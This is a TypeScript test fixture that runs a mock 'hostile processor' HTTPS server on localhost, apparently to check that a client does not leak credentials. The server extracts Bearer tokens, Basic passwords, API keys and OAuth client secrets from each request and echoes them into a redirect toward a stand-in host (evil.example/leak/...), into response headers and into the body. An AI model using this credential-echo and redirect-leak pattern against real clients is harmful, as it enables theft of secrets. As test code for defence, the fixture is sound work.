/**
 * A hostile processor on 127.0.0.1: a real HTTPS server (testbed PKI) that reads the credentials of every
 * request it gets (Bearer token, Basic password, a named header, an OAuth client secret sent by
 * client_secret_basic or client_secret_post) and echoes them back in one chosen encoding: in a redirect's
 * Location (host, path, query and fragment), in headers and in the body. `/e/<i>/...` echoes with
 * encoding number i of the list the test gives, so one server serves a processor per encoding;
 * `/e/all/...` puts every encoding into one Location.
 */
import * as https from 'node:https';
import type * as net from 'node:net';
import { createPki } from '../../testbed/pki';

export interface EchoServer {
  readonly port: number;
  readonly url: string;
  /** The root the server's certificate chains to (PEM). */
  readonly caPem: string;
  /** The credential values the server read, one per request. */
  readonly received: string[];
  close(): Promise<void>;
}

/** The credential a request carries: Bearer token, Basic password, x-api-key, or an OAuth client secret. */
function credentialOf(req: { headers: Record<string, string | string[] | undefined> }, body: string): string {
  const auth = req.headers.authorization;
  if (typeof auth === 'string' && auth.startsWith('Bearer ')) return auth.slice(7);
  if (typeof auth === 'string' && auth.startsWith('Basic ')) {
    const decoded = Buffer.from(auth.slice(6), 'base64').toString('utf8');
    const password = decoded.slice(decoded.indexOf(':') + 1);
    // OAuth client_secret_basic form-encodes id and secret before base64 (RFC 6749 2.3.1).
    return req.headers['content-type'] === 'application/x-www-form-urlencoded'
      ? decodeURIComponent(password.replace(/\+/g, ' '))
      : password;
  }
  const header = req.headers['x-api-key'];
  if (typeof header === 'string') return header;
  return new URLSearchParams(body).get('client_secret') ?? '';
}

/**
 * Every encoding in one path, between `~~` segments (no base64 character, so a masked base64 form cannot
 * reach into its neighbours); forms holding `#` last, as the URL parser ends the path there.
 */
function allInOne(forms: [string, string][]): string {
  const encoded = forms.map(([, e]) => e);
  return [...encoded.filter((e) => !e.includes('#')), ...encoded.filter((e) => e.includes('#'))].join('/~~/');
}

/** A host label made of the echo when it can be one, so the URL parser keeps it (lower-cased). */
function hostLabel(encoded: string): string {
  return /^[A-Za-z0-9_-]{1,63}$/.test(encoded) ? `${encoded}.` : '';
}

/** Header values carry Latin-1 only: anything else is left out of the header copies. */
function headerSafe(s: string): boolean {
  return /^[\x20-\x7e\xa0-\xff]*$/.test(s);
}

export async function startEchoServer(
  encodings: (secret: string) => [string, string][],
): Promise<EchoServer> {
  const pki = await createPki({ name: 'echo' });
  const leaf = await pki.serverCert();
  const received: string[] = [];
  const sockets = new Set<net.Socket>();
  const server = https.createServer({ cert: leaf.chain, key: leaf.key }, (req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      const secret = credentialOf(req, body);
      received.push(secret);
      const which = /^\/e\/(\d+|all)\//.exec(req.url ?? '')?.[1] ?? '0';
      const encoded =
        which === 'all' ? allInOne(encodings(secret)) : (encodings(secret)[Number(which)]?.[1] ?? secret);
      const location = `https://${hostLabel(encoded)}evil.example/leak/${encoded}?q=${encoded}#${encoded}`;
      const safe = headerSafe(encoded);
      const text = JSON.stringify({ error: encoded, error_description: encoded, echo: body });
      res.writeHead(302, {
        ...(headerSafe(location) ? { location } : { location: 'https://evil.example/' }),
        'content-type': 'application/json',
        'content-length': Buffer.byteLength(text),
        ...(safe ? { 'x-echo': encoded, 'www-authenticate': `Bearer error="${encoded}"` } : {}),
      });
      res.end(text);
    });
  });
  server.on('connection', (s: net.Socket) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  server.on('tlsClientError', () => undefined);
  const port = await new Promise<number>((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve((server.address() as net.AddressInfo).port)),
  );
  return {
    port,
    url: `https://127.0.0.1:${port}`,
    caPem: pki.caPem,
    received,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        for (const s of sockets) s.destroy();
      }),
  };
}
